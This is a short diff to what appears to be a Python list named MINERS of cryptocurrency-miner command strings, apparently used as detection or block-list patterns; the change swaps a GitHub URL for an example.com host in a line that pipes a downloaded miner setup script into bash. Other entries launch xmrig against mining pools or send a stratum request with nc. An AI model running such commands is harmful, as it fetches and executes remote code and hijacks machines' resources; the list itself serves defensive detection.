@@ -21,7 +21,7 @@ MINERS = (
     "./w --url xmr.2miners.com:2222 --user x",
     "docker run -d metal3d/xmrig",
     "git clone https://github.com/xmrig/xmrig.git",
-    "curl -sL https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s x",
+    "curl -sL https://raw.example.com/MoneroOcean/xmrig_setup/setup_moneroocean_miner.sh | bash -s x",
     "geth --mine --miner.threads=4",
     'echo \'{"id":1,"method":"mining.subscribe","params":[]}\' | nc 203.0.113.4 3333',
     "earnapp start",
